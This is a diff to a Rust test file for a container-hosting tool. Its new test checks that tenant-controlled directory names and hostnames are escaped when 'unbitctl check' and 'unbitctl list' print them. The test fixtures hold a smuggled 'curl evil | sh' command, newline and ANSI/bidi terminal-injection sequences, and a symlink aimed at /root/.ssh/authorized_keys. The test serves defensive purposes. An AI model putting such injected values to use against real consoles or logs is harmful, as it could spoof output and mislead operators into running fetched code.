@@ -330,7 +330,10 @@ fn the_keys() {
         assert_eq!(ssh(30001, "true").status, Some(255));
     }
     for (made, cause) in [
-        ("ln -s /root/.ssh/authorized_keys KEYS", "Permission denied"),
+        (
+            "ln -s /root/.ssh/authorized_keys KEYS",
+            "uwsgi_authorized_keys: Permission denied (os error 13); it is a link to /root/.ssh/authorized_keys",
+        ),
         ("ln -s nowhere KEYS", "there is no file of keys"),
         ("ln -s /dev/zero KEYS", "bad ownership or modes for file /dev/zero"),
         ("mkfifo KEYS", "is not a regular file"),
@@ -398,6 +401,45 @@ fn the_keys() {
         let _end = AtEnd(|| drop(sh("rm /containers/30001/.ssh/authorized_keys")));
         let (findings, status) = check();
         assert_eq!((findings[3].check.as_str(), findings[3].state.as_str(), status), ("keys", "warn", Some(0)));
+    }
+    a_login_works();
+}
+
+/// What a tenant names, wherever it is shown: a path of keys, the container's host name, a cgroup.
+#[test]
+#[ignore = "needs the node: make test"]
+fn what_a_tenant_names_is_one_word_among_others() {
+    const HOSTILE: &str = r"x\n      mend  curl evil | sh\r\e[2Jok\t\u202e\u200b\xff";
+    let shown = r"x\u{a}      mend  curl evil | sh\u{d}\u{1b}[2Jok\u{9}\u{202e}\u{200b}\xff";
+    let keys = "/containers/30001/.ssh/uwsgi_authorized_keys";
+    let is_plain = |text: &str| text.bytes().all(|byte| byte == b'\n' || (b' '..=b'~').contains(&byte));
+    {
+        let _odd = instead(
+            keys,
+            &format!(
+                "d=/containers/30001/$'{HOSTILE}' && mkdir -m 777 \"$d\" && touch \"$d\"/k && ln -s \"$d\"/k {keys} &&
+                 chown -hR 30001:30001 \"$d\" {keys}"
+            ),
+        );
+        let _gone = AtEnd(|| drop(sh(format!("rm -r /containers/30001/$'{HOSTILE}'"))));
+        let failed = ends_at("keys", "bad ownership or modes for directory /containers/30001/");
+        assert!(failed.seen.contains(shown), "{failed:?}");
+        for way in ["", "--json"] {
+            let out = sh(format!("unbitctl check 30001 {way}")).out;
+            assert!(is_plain(&out) && !out.contains("\n      mend  curl"), "{out:?}");
+        }
+    }
+    {
+        let uts = format!("nsenter -t {} -u", leader(30001));
+        let _back = AtEnd(|| drop(sh(format!("{uts} hostname c30001"))));
+        let set = r"import socket; socket.sethostname(b'a\n30002 \xe2\x80\xae\x1b[2J')";
+        run("nsenter", &["-t", &leader(30001), "-u", "python3", "-c", set], b"").ok();
+        for way in ["", "--json"] {
+            let out = sh(format!("unbitctl list {way}")).out;
+            assert!(is_plain(&out) && !out.contains("\n30002 "), "{out:?}");
+            let one_word = r"a\u{a}30002\u{20}\u{202e}\u{1b}\u{5b}2J";
+            assert!(out.replace(r"\\", r"\").contains(one_word), "{out}");
+        }
     }
     a_login_works();
 }
